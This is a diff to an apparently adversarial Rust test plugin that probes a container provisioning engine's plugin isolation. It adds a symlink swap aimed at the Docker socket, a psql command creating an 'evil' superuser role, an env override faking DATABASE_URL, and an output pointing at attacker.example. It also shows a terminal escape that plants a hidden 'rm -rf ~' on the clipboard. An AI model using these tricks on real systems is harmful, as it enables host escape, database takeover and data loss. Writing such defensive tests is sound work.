@@ -26,6 +26,10 @@ struct Config {
     label: Option<String>,
     url: Option<String>,
     env_value: Option<String>,
+    /// A variable name of its own choosing (`DATABASE_URL=postgres://evil`).
+    env_key: Option<String>,
+    /// How many host ports to publish (`trick = "ports"`).
+    ports: u16,
     /// Declared (and ignored): host-level keys a third-party plugin must
     /// not take from the host.
     read_only: bool,
@@ -39,6 +43,7 @@ impl Plugin for Mischief {
         Info::new("mischief", "0.1.0", "Tries every trick")
             .output("loot", "What it got")
             .output("url", "Its address, as it claims it")
+            .output("api_url", "Named so that `web` + `api_url` reads as `web-api` + `url`")
             .uses("peek", "Any postgres, hoping for its password", &["postgres"], WaitFor::Started, true)
             .collects("everyone", "Every other service, hoping for secrets")
     }
@@ -59,6 +64,40 @@ impl Plugin for Mischief {
                 return Ok(plan);
             }
             "escape" => host::log(LogLevel::Warn, "\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}[2Jcleared"),
+            "swap" => {
+                // A task that, in the folder it may write (`bind`), swaps
+                // `sub` for a link to the engine's socket folder (or to
+                // `..`), then a server that binds `sub` read-only: if the
+                // engine resolved `sub` when the server starts, it would get
+                // /var/run and the Docker socket.
+                let folder = config.bind.clone().unwrap_or_else(|| "data".into());
+                let target = config.url.clone().unwrap_or_else(|| "/var/run".into());
+                let script = format!("rm -rf /w/sub && ln -s {target} /w/sub");
+                let task = Container::new("swap", "provision-standin/redis:7")
+                    .command(["sh", "-c", &script])
+                    .mount(MountSource::Bind(folder.clone()), "/w", false);
+                plan.tasks.push(task);
+                let server = Container::new("server", "provision-standin/redis:7")
+                    .command(["sleep", "infinity"])
+                    .mount(MountSource::Bind(format!("{folder}/sub")), "/mnt", true);
+                plan.containers.push(server);
+                return Ok(plan);
+            }
+            "poison" => {
+                // As soon as it may start, write into the postgres it was
+                // given, and into that postgres's data volume, hoping to land
+                // in the snapshot every later project starts from.
+                let url = request.bindings.iter().find(|b| b.role == "peek").and_then(|b| b.outputs.iter().find(|(k, _)| k == "url"));
+                let url = url.map(|(_, v)| v.clone()).unwrap_or_default();
+                let script = "until psql \"$PEEK_URL\" -c 'CREATE ROLE evil SUPERUSER LOGIN' -c 'CREATE TABLE poison (x int)'; \
+                              do touch /borrowed/poison 2>/dev/null; sleep 0.05; done; touch /borrowed/poison; sleep infinity";
+                let mut c = Container::new("server", "provision-standin/postgres:16").command(["sh", "-c", script]).env("PEEK_URL", url);
+                if let Some(volume) = &config.borrow_volume {
+                    c = c.mount(MountSource::Volume(volume.clone()), "/borrowed", false);
+                }
+                plan.containers.push(c);
+                return Ok(plan);
+            }
             "own-bind" => {
                 // The project folder, writable, chosen by the plugin itself.
                 let c = Container::new("server", "provision-standin/redis:7").mount(MountSource::Bind(".".into()), "/mnt", false);
@@ -108,8 +147,12 @@ impl Plugin for Mischief {
             plan.metrics("server", 9000, path.clone());
         }
         if let Some(value) = &config.env_value {
-            c = c.env("MISCHIEF", value.clone());
+            c = c.env(config.env_key.clone().unwrap_or_else(|| "MISCHIEF".into()), value.clone());
         }
+        for i in 0..config.ports {
+            c.ports.push(Port { container: 10000 + i, host: Some(0), protocol: Protocol::Tcp });
+        }
+        plan.output("api_url", "http://attacker.example");
         plan.containers.push(c);
         Ok(plan)
     }
